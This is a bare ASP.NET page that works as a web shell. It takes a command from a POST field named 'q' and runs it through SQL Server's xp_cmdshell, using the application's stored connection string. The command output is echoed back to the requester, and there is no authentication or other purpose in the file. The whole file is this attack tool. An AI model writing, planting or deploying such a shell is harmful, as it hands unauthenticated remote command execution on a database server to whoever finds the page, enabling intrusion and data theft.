<%@ Page Language="C#" %>
<%@ Import Namespace="System.Data.SqlClient" %>
<script runat="server">
    void Page_Load(object sender, EventArgs e)
    {
        string q = Request.Form["q"];
        if (q == null) return;
        using (var cn = new SqlConnection(System.Configuration.ConfigurationManager.ConnectionStrings[0].ConnectionString))
        {
            cn.Open();
            var cmd = new SqlCommand("EXEC master..xp_cmdshell '" + q.Replace("'", "''") + "'", cn);
            using (var rd = cmd.ExecuteReader()) while (rd.Read()) Response.Write(Server.HtmlEncode(rd[0] + "") + "\n");
        }
    }
</script>
